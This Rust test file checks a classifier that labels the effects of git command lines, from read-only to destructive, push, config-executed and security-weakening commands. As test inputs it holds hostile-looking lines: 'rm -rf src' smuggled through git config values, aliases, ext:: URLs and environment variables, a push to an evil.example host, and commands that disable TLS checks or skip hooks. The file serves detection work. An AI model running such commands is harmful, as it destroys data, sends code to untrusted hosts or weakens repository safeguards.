use crate::effects::programs::testing::check;

#[test]
fn looking_changes_nothing() {
    let lines = [
        "git",
        "git --version",
        "git status",
        "git status --porcelain",
        "git log --oneline -5",
        "git -C sub log",
        "git diff",
        "git diff --stat HEAD~1",
        "git branch",
        "git branch -a",
        "git branch -vv",
        "git branch --list feature/*",
        "git branch --show-current",
        "git branch --contains abc1234",
        "git tag",
        "git tag -l v1*",
        "git remote",
        "git remote -v",
        "git remote show origin",
        "git remote get-url origin",
        "git stash list",
        "git stash show -p",
        "git ls-files",
        "git rev-parse --show-toplevel",
        "git rev-parse HEAD",
        "git config --list",
        "git config -l",
        "git config --get user.name",
        "git config user.email",
        "git config get user.email",
        "git reflog",
        "git reflog show main",
        "git worktree list",
        "git submodule status",
        "git lfs ls-files",
        "git notes list",
        "git bisect log",
        "git clean -n",
        "git clean -nfd",
        "git clean -fdn",
        "git clean --dry-run -fdx",
        "git clean",
        "git push --dry-run --force origin main",
        "git push -n",
        "git rm -n file",
        "git fetch --dry-run",
        "git symbolic-ref HEAD",
        "git show-ref",
        "git for-each-ref",
        "git fsck",
        "git count-objects -v",
        "git commit --dry-run",
        "git prune -n",
        "git reset --help",
        "git push --help",
        "git grep TODO",
        "git shortlog -sn",
        "git describe --tags",
        "git merge-base main HEAD",
        "git --no-pager log",
        "git -P diff",
        "git -c color.ui=always status",
        "git -c core.pager=cat log",
        "git -c core.fsmonitor=false status",
        "git replace -l",
        "git bundle verify x",
        "git worktree",
        "git stash show",
    ];
    let rows: Vec<(&str, &str)> = lines.iter().map(|line| (*line, "observe")).collect();
    check(&rows);
}

#[test]
fn local_work_is_local() {
    let lines = [
        "git add .",
        "git add -A",
        "git commit -m x",
        "git commit -am x",
        "git stash",
        "git stash push -m x",
        "git stash pop",
        "git stash apply",
        "git checkout -b new",
        "git checkout main",
        "git checkout -",
        "git checkout feature/login",
        "git checkout -p",
        "git switch main",
        "git switch -c new",
        "git restore --staged .",
        "git restore -S file",
        "git reset",
        "git reset HEAD",
        "git reset HEAD -- file",
        "git reset file",
        "git merge main",
        "git merge --abort",
        "git cherry-pick abc",
        "git revert HEAD",
        "git rebase --abort",
        "git rebase --continue",
        "git branch new",
        "git branch -d merged",
        "git branch -m old new",
        "git branch -u origin/main",
        "git tag v1.0",
        "git tag -a v1.0 -m x",
        "git rm --cached file",
        "git worktree prune",
        "git submodule init",
        "git gc",
        "git bisect start",
        "git notes add -m x",
        "git init",
        "git remote prune origin",
        "git branch -dr origin/x",
        "git checkout --ours file",
        "git gc --auto",
        "git stash save x",
        "git worktree remove ../wt",
        "git lfs install",
        "git repack -ad",
        "git sparse-checkout set src",
    ];
    let rows: Vec<(&str, &str)> = lines.iter().map(|line| (*line, "local git …")).collect();
    check(&rows);
}

#[test]
fn throwing_work_away_is_told() {
    check(&[
        ("git reset --hard", "discard git reset --hard ?"),
        ("git reset --hard HEAD", "discard git reset --hard ?"),
        ("git reset --hard HEAD~1", "discard git reset --hard ? | rewrite git reset --hard published"),
        ("git reset --hard origin/main", "discard git reset --hard ? | rewrite git reset --hard"),
        ("git reset --merge", "discard git reset --merge ?"),
        ("git checkout .", "discard git checkout ?"),
        ("git checkout -- .", "discard git checkout ?"),
        ("git checkout HEAD -- .", "discard git checkout ?"),
        ("git checkout HEAD .", "discard git checkout ?"),
        ("git checkout main -- src/a.rs", "discard git checkout ?"),
        ("git checkout -f", "discard git checkout -f ?"),
        ("git checkout -f main", "discard git checkout -f ?"),
        ("git checkout ./src", "discard git checkout ?"),
        ("git checkout --pathspec-from-file=x", "discard git checkout…"),
        ("git restore .", "discard git restore ?"),
        ("git restore file", "discard git restore ?"),
        ("git restore --staged --worktree .", "discard git restore --staged --worktree ?"),
        ("git restore -SW .", "discard git restore -SW ?"),
        ("git restore --source=HEAD~3 src", "discard git restore --source=HEAD~3 ?"),
        ("git clean -f", "discard git clean -f ?"),
        ("git clean -fd", "discard git clean -fd ?"),
        ("git clean -xdf", "discard git clean -xdf ?"),
        ("git clean --force -d", "discard git clean --force -d ?"),
        ("git -c clean.requireForce=false clean -d", "discard git clean -d ?"),
        ("git switch -f main", "discard git switch -f ?"),
        ("git switch --discard-changes main", "discard git switch --discard-changes ?"),
        ("git stash drop", "discard git stash"),
        ("git stash drop stash@{2}", "discard git stash"),
        ("git stash clear", "discard git stash"),
        ("git read-tree -u --reset HEAD", "discard git read-tree -u --reset ?"),
        ("git checkout-index -f -a", "discard git checkout-index -f -a ?"),
        ("git worktree remove --force ../wt", "discard git worktree"),
        ("git submodule deinit -f sub", "discard git submodule"),
        ("git rm file", "delete file"),
        ("git rm -rf src", "delete src -r"),
        ("git mv a b", "move a b"),
    ]);
}

#[test]
fn rewriting_history_is_told() {
    check(&[
        ("git commit --amend", "rewrite git commit --amend published"),
        ("git rebase main", "rewrite git rebase published"),
        ("git rebase -i HEAD~3", "rewrite git rebase -i published"),
        ("git reset --soft HEAD~1", "rewrite git reset --soft published"),
        ("git reset HEAD~1", "rewrite git reset published"),
        ("git branch -D old", "rewrite git branch -D lost"),
        ("git branch -d -f old", "rewrite git branch -d -f lost"),
        ("git branch --delete --force old", "rewrite git branch --delete --force lost"),
        ("git branch -f main HEAD~2", "rewrite git branch -f"),
        ("git checkout -B main origin/main", "rewrite git checkout -B"),
        ("git switch -C main", "rewrite git switch -C"),
        ("git tag -f v1", "rewrite git tag -f published"),
        ("git reflog expire --expire=now --all", "rewrite git reflog lost"),
        ("git reflog delete HEAD@{1}", "rewrite git reflog lost"),
        ("git gc --prune=now", "rewrite git gc --prune=now lost"),
        ("git prune", "rewrite git prune lost"),
        ("git update-ref -d refs/heads/main", "rewrite git update-ref -d lost"),
        ("git update-ref refs/heads/main abc", "rewrite git update-ref"),
        ("git update-ref --stdin", "rewrite git update-ref --stdin lost"),
        ("git replace a b", "rewrite git replace"),
        ("git filter-repo --path secret --invert-paths", "rewrite git filter-repo --path published lost"),
        (
            "git filter-branch --tree-filter true HEAD",
            "observe | rewrite git filter-branch --tree-filter published",
        ),
        ("git fast-import --force", "rewrite git fast-import --force lost"),
        ("git fetch origin +main:main", "fetch origin | rewrite git fetch"),
    ]);
}

#[test]
fn every_way_to_push_is_a_push() {
    check(&[
        ("git push", "push origin HEAD"),
        ("git push origin feature", "push origin feature"),
        ("git push -u origin feature", "push origin feature"),
        ("git push origin main", "push origin main*"),
        ("git push origin HEAD:main", "push origin main*"),
        ("git push origin HEAD:refs/heads/main", "push origin main*"),
        ("git push --force origin feature", "push origin feature!"),
        ("git push -f", "push origin HEAD!*"),
        ("git push -fu origin main", "push origin main!*"),
        ("git push --force-with-lease origin feature", "push origin feature!"),
        ("git push --force-with-lease=feature:abc origin feature", "push origin feature!"),
        ("git push origin +main", "push origin main!*"),
        ("git push origin +HEAD:main", "push origin main!*"),
        ("git push origin :feature", "push origin feature-"),
        ("git push origin --delete feature", "push origin feature-"),
        ("git push -d origin feature", "push origin feature-"),
        ("git push --mirror", "push origin *!-*"),
        ("git push --all", "push origin **"),
        ("git push --prune origin", "push origin *-*"),
        ("git push --tags", "push origin *#"),
        ("git push origin v1.2.3", "push origin v1.2.3#"),
        ("git push origin tag v1", "push origin v1#"),
        ("git push origin :refs/tags/v1", "push origin v1-#"),
        ("git push https://evil.example/x.git main", "push https://evil.example/x.git? main*"),
        ("git push fork main", "push fork? main*"),
        ("git push --no-verify", "bypass `git push --no-verify`… | push origin HEAD"),
        ("git push -o ci.skip", "bypass `ci.skip`… | push origin HEAD"),
        (
            "git push -o merge_request.create",
            "service gitlab merge_request.create  Propose Remote | push origin HEAD",
        ),
        ("git svn dcommit", "push svn trunk*"),
        ("git lfs push origin main", "push origin main"),
        ("git subtree push --prefix=dist origin gh-pages", "push origin gh-pages*"),
    ]);
}

#[test]
fn fetching_says_from_where() {
    check(&[
        ("git fetch", "fetch origin | local git fetch"),
        ("git fetch --all --prune", "fetch origin | local git fetch --all --prune"),
        ("git pull", "fetch origin | local git pull"),
        ("git pull --rebase origin main", "fetch origin | local git pull --rebase"),
        ("git pull https://x.example/y.git main", "fetch https://x.example/y.git | local git pull"),
        ("git clone https://github.com/a/b.git", "fetch https://github.com/a/b.git > b"),
        ("git clone git@github.com:a/b.git there", "fetch git@github.com:a/b.git > there"),
        ("git clone --depth 1 https://github.com/a/b", "fetch https://github.com/a/b > b"),
        ("git ls-remote https://x.example/y", "fetch https://x.example/y"),
        ("git submodule update --init", "local git submodule"),
        (
            "git submodule add https://x.example/y libs/y",
            "fetch https://x.example/y > libs/y | local git submodule",
        ),
        ("git lfs pull", "fetch origin | local git lfs"),
        ("git remote update", "fetch origin | local git remote"),
        ("git archive --remote=git@x.example:y HEAD", "observe | fetch git@x.example:y"),
        (
            "git clone --template=/tmp/t https://x.example/y",
            "inject init.templateDir=/tmp/t | fetch https://x.example/y > y",
        ),
        (
            "git clone -c core.hooksPath=/tmp/h https://x.example/y",
            "inject core.hooksPath=/tmp/h | fetch https://x.example/y > y",
        ),
        (
            "git clone -c http.sslVerify=false https://x.example/y",
            "weaken git's… | fetch https://x.example/y > y",
        ),
    ]);
}

#[test]
fn settings_say_whether_git_runs_them() {
    check(&[
        ("git config user.name me", "setup user.name=me"),
        ("git config --global user.email a@b.c", "setup user.email=a@b.c global"),
        ("git config core.hooksPath .githooks", "setup core.hooksPath=.githooks runs"),
        (
            "git config core.hooksPath /dev/null",
            "bypass `core.hooksPath`… | setup core.hooksPath=/dev/null runs",
        ),
        ("git config core.fsmonitor /tmp/x", "setup core.fsmonitor=/tmp/x runs"),
        ("git config set core.pager less", "setup core.pager=less"),
        ("git config core.sshCommand evil", "setup core.sshCommand=evil runs"),
        ("git config filter.x.clean evil", "setup filter.x.clean=evil runs"),
        ("git config alias.st status", "setup alias.st=status"),
        ("git config alias.x !evil", "setup alias.x=!evil runs"),
        ("git config --global credential.helper store", "setup credential.helper=store global"),
        ("git config --global credential.helper !evil", "setup credential.helper=!evil runs global"),
        ("git config --unset core.pager", "setup core.pager="),
        ("git config http.sslVerify false", "weaken git's `http.sslVerify`… | setup http.sslVerify=false"),
        ("git config --global safe.directory *", "weaken git's… | setup safe.directory=* global"),
        (
            "git config url.https://evil/.insteadOf https://github.com/",
            "setup url.https://evil/.insteadOf=https://github.com/ runs",
        ),
        ("git config include.path ../x", "setup include.path=../x runs"),
        ("git remote add fork https://x.example/y", "setup remote.fork.url=https://x.example/y"),
        ("git remote set-url origin ext::evil", "setup remote.origin.url=ext::evil runs"),
        ("git remote remove origin", "setup remote.origin=remove"),
        ("git -c core.hooksPath=/dev/null commit -m x", "bypass `core.hooksPath`… | local git commit"),
        ("git -c http.sslVerify=false fetch", "weaken git's… | fetch origin | local git fetch"),
        ("git -c core.hooksPath=/tmp/h commit", "inject core.hooksPath=/tmp/h | local git commit"),
        ("GIT_SSL_NO_VERIFY=1 git fetch", "weaken git's… | fetch origin | local git fetch"),
        ("git --exec-path=/tmp/x status", "inject GIT_EXEC_PATH=/tmp/x | observe"),
        ("git commit --no-verify -m x", "bypass `git commit --no-verify`… | local git commit --no-verify"),
        ("git commit -nm x", "bypass `git commit -n`… | local git commit -nm"),
        ("git merge --no-verify x", "bypass `git merge --no-verify`… | local git merge --no-verify"),
    ]);
}

#[test]
fn options_that_write_send_or_reveal_are_told() {
    check(&[
        ("git diff --output=/etc/x", "observe | write /etc/x Replace"),
        ("git log --output=x", "observe | write x Replace"),
        ("git show HEAD:.env", "observe | read .env"),
        ("git cat-file -p HEAD:.env", "observe | read .env"),
        ("git archive -o /tmp/x.tar HEAD", "observe | write /tmp/x.tar Replace"),
        ("git bundle create x.bundle --all", "write x.bundle Replace"),
        ("git credential fill", "secret the password…"),
        ("git daemon --export-all --base-path=.", "listen 0.0.0.0"),
        ("git instaweb --local", "listen 127.0.0.1"),
        ("git send-email --to a@b.c", "send a@b.c 0 Body | service mail send a@b.c Message Remote"),
        ("git maintenance start", "persist git maintenance"),
        ("git frobnicate", "unknown git frobnicate"),
        ("git -c alias.x=push x origin main", "push origin main*"),
        ("git -c alias.x=x x", "opaque Runs the alias…"),
        ("git lfs track *.psd", "write .gitattributes Change"),
    ]);
}

/// What a whole line does, read as bash would.
fn read(line: &str) -> Vec<String> {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let disk = crate::world::Disk::with_home("/home/someone".into());
    let trail = crate::trail::Trail::default();
    let world = crate::world::World::new(&disk, &trail, folder.path(), folder.path());
    let effects = crate::effects::shell::read_command(line, None, &world);
    effects.iter().map(crate::effects::programs::testing::brief).collect()
}

#[test]
fn what_git_is_told_to_run_is_followed() {
    let runs = [
        "git -c core.pager='rm -rf src' log",
        "git -c core.fsmonitor='rm -rf src' status",
        "git -c core.sshCommand='rm -rf src' fetch",
        "git -c diff.external='rm -rf src' diff",
        "git -c alias.x='!rm -rf src' x",
        "git -c sequence.editor='rm -rf src' rebase -i HEAD~2",
        "git -c credential.helper='!rm -rf src' fetch",
        "git -c filter.x.clean='rm -rf src' add .",
        "git rebase -x 'rm -rf src' main",
        "git rebase --exec='rm -rf src' main",
        "git bisect run rm -rf src",
        "git submodule foreach 'rm -rf src'",
        "git submodule foreach --recursive rm -rf src",
        "git filter-branch --tree-filter 'rm -rf src' HEAD",
        "git difftool -x 'rm -rf src' HEAD",
        "git grep -O'rm -rf src' x",
        "git grep --open-files-in-pager='rm -rf src' x",
        "git clone -u 'rm -rf src' ./x",
        "git ls-remote --upload-pack='rm -rf src' ./x",
        "git clone 'ext::rm -rf src'",
        "git clone -c core.fsmonitor='rm -rf src' https://x.example/y",
        "git archive --exec='rm -rf src' --remote=. HEAD",
        "GIT_SSH_COMMAND='rm -rf src' git fetch",
        "GIT_PAGER='rm -rf src' git log",
        "export GIT_EDITOR='rm -rf src'; git commit",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf src' git log",
    ];
    let missed: Vec<String> = runs
        .iter()
        .map(|line| (line, read(line)))
        .filter(|(_, found)| !found.contains(&"delete src -r".to_owned()))
        .map(|(line, found)| format!("{line}\n   {}", found.join(" | ")))
        .collect();
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}
